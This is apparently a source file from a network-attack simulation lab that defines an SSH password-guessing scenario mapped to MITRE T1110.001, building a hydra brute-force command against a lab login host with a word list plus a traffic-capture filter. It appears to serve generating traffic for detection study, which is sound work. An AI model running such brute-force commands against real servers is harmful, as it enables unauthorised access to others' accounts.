import { GATEWAY, LOGIN, OUTSIDER } from '../hosts.js';
import { attackScenario, WORD_LIST } from './attack.js';

const ATTACKER = OUTSIDER.siteEnd.split('/')[0]!;

export const sshGuessing = attackScenario(
  'ssh_guessing',
  'A host of the internet guesses passwords at the SSH server with hydra; none is right.',
  {
    seconds: 60,
    attack: {
      technique: 'T1110.001',
      techniqueName: 'Brute Force: Password Guessing',
      attacker: ATTACKER,
      mac: GATEWAY.mac,
      victims: [LOGIN.address],
      host: OUTSIDER.name,
      tool: 'hydra',
      command: (intensity, folder) => [
        ...['hydra', '-I', '-l', 'alice', '-P', `${folder}/${WORD_LIST}`],
        ...['-t', String(Math.max(1, Math.round(4 * intensity)))],
        ...(intensity < 0.25 ? ['-c', String(Math.round(1 / intensity))] : []),
        `ssh://${LOGIN.address}`,
      ],
      filter: `src host ${ATTACKER} and dst host ${LOGIN.address} and tcp dst port 22`,
    },
  },
);
